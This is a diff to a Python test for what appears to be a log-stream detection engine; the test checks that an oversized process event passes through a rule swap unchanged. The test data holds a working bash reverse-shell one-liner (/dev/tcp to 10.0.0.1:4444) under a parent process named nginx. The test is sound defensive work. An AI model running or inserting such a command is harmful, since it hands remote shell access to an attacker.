@@ -121,8 +121,9 @@ class TestSwap:
         only_marker.mkdir()
         (only_marker / "extra.yml").write_text(EXTRA.format(n=1, token="zz-marker"))
         engine = Engine(build([only_marker], None)[1], Settings(max_line_bytes=200))
-        long = msgspec.json.encode({"process": {"name": "bash", "command_line": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
-                                                "parent": {"name": "nginx"}}, "padding": "x" * 400}) + b"\n"
+        shell = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
+        long = msgspec.json.encode({"process": {"name": "bash", "command_line": shell, "parent": {"name": "nginx"}},
+                                    "padding": "x" * 400}) + b"\n"
         stream = engine.stream()
         assert stream.feed(long, 0.0) == long  # no rule's anchor in it: forwarded as it came
         engine.swap(_ruleset(tmp_path, None))
